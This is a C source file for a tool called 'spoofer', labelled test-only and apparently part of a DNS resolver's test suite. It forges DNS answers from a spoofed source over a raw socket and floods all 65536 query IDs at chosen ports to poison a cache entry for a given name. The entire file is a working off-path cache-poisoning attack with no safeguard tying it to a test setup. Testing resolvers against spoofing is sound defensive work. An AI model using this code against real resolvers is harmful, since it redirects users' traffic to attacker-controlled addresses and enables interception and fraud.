/*
 * spoofer: an off-path attacker's flood of forged DNS answers (test-only).
 *
 *   spoofer FROM FROM_PORT TO PORT[,PORT...] NAME ADDR [FIRST_ID [COUNT]]
 *
 * Sends, to each PORT of TO, an answer "NAME A ADDR" for every id from
 * FIRST_ID (default 0) for COUNT ids (default 65536, wrapping), each from
 * FROM:FROM_PORT, forged with a raw socket (needs root or CAP_NET_RAW).
 * IPv4 only.  Prints how many datagrams the kernel took.
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sys/socket.h>

#define BATCH   512
#define PKT_MAX 600

static size_t name_to_wire(const char *name, unsigned char *out)
{
	size_t n = 0;
	while (*name) {
		const char *dot = strchr(name, '.');
		size_t len = dot ? (size_t)(dot - name) : strlen(name);
		if (len == 0 || len > 63 || n + len + 2 > 255) {
			fprintf(stderr, "spoofer: bad name\n");
			exit(2);
		}
		out[n++] = (unsigned char)len;
		memcpy(out + n, name, len);
		n += len;
		name += len + (dot ? 1 : 0);
	}
	out[n++] = 0;
	return n;
}

/* The forged datagram for one id: IP and UDP headers, then the answer. */
static size_t build(unsigned char *p, struct in_addr from, unsigned from_port, struct in_addr to,
		    unsigned to_port, const unsigned char *qname, size_t qlen, struct in_addr addr)
{
	unsigned char *d = p + sizeof(struct iphdr) + sizeof(struct udphdr);
	size_t n = 0;
	static const unsigned char head[12] = { 0, 0, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0 };
	memcpy(d, head, 12);
	n = 12;
	memcpy(d + n, qname, qlen);
	n += qlen;
	static const unsigned char q[4] = { 0, 1, 0, 1 };
	memcpy(d + n, q, 4);
	n += 4;
	static const unsigned char rr[12] = { 0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0x0e, 0x10, 0, 4 };
	memcpy(d + n, rr, 12);
	n += 12;
	memcpy(d + n, &addr, 4);
	n += 4;

	struct udphdr *u = (struct udphdr *)(p + sizeof(struct iphdr));
	u->source = htons((uint16_t)from_port);
	u->dest = htons((uint16_t)to_port);
	u->len = htons((uint16_t)(sizeof(*u) + n));
	u->check = 0;                   /* none: IPv4 allows it */
	struct iphdr *ip = (struct iphdr *)p;
	memset(ip, 0, sizeof(*ip));
	ip->version = 4;
	ip->ihl = 5;
	ip->ttl = 64;
	ip->protocol = IPPROTO_UDP;
	ip->saddr = from.s_addr;
	ip->daddr = to.s_addr;
	ip->tot_len = htons((uint16_t)(sizeof(*ip) + sizeof(*u) + n));
	return sizeof(*ip) + sizeof(*u) + n;    /* the kernel fills id and checksum */
}

int main(int argc, char **argv)
{
	if (argc < 7 || argc > 9) {
		fprintf(stderr, "usage: spoofer FROM FROM_PORT TO PORT[,PORT...] NAME ADDR [FIRST_ID [COUNT]]\n");
		return 2;
	}
	struct in_addr from, to, addr;
	if (inet_pton(AF_INET, argv[1], &from) != 1 || inet_pton(AF_INET, argv[3], &to) != 1 ||
	    inet_pton(AF_INET, argv[6], &addr) != 1) {
		fprintf(stderr, "spoofer: bad address\n");
		return 2;
	}
	unsigned from_port = (unsigned)strtoul(argv[2], NULL, 10);
	unsigned first = argc > 7 ? (unsigned)strtoul(argv[7], NULL, 10) : 0;
	unsigned count = argc > 8 ? (unsigned)strtoul(argv[8], NULL, 10) : 65536;
	unsigned char qname[256];
	size_t qlen = name_to_wire(argv[5], qname);

	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0) {
		perror("spoofer: raw socket");
		return 1;
	}
	int sndbuf = 4 << 20;
	(void)setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &sndbuf, sizeof(sndbuf));

	static unsigned char pkts[BATCH][PKT_MAX];
	static struct iovec iov[BATCH];
	static struct mmsghdr msgs[BATCH];
	struct sockaddr_in dst = { .sin_family = AF_INET, .sin_addr = to };
	unsigned long sent = 0;
	char *ports = strdup(argv[4]);
	for (char *tok = strtok(ports, ","); tok; tok = strtok(NULL, ",")) {
		unsigned port = (unsigned)strtoul(tok, NULL, 10);
		for (unsigned done = 0; done < count;) {
			unsigned k = 0;
			for (; k < BATCH && done + k < count; k++) {
				size_t len = build(pkts[k], from, from_port, to, port, qname, qlen, addr);
				uint16_t id = htons((uint16_t)(first + done + k));
				memcpy(pkts[k] + sizeof(struct iphdr) + sizeof(struct udphdr), &id, 2);
				iov[k] = (struct iovec){ .iov_base = pkts[k], .iov_len = len };
				msgs[k].msg_hdr = (struct msghdr){ .msg_name = &dst, .msg_namelen = sizeof(dst),
								   .msg_iov = &iov[k], .msg_iovlen = 1 };
			}
			int n = sendmmsg(fd, msgs, k, 0);
			if (n < 0) {
				if (errno == EINTR || errno == ENOBUFS || errno == EAGAIN)
					continue;
				perror("spoofer: sendmmsg");
				return 1;
			}
			done += (unsigned)n;
			sent += (unsigned)n;
		}
	}
	free(ports);
	printf("%lu\n", sent);
	return 0;
}
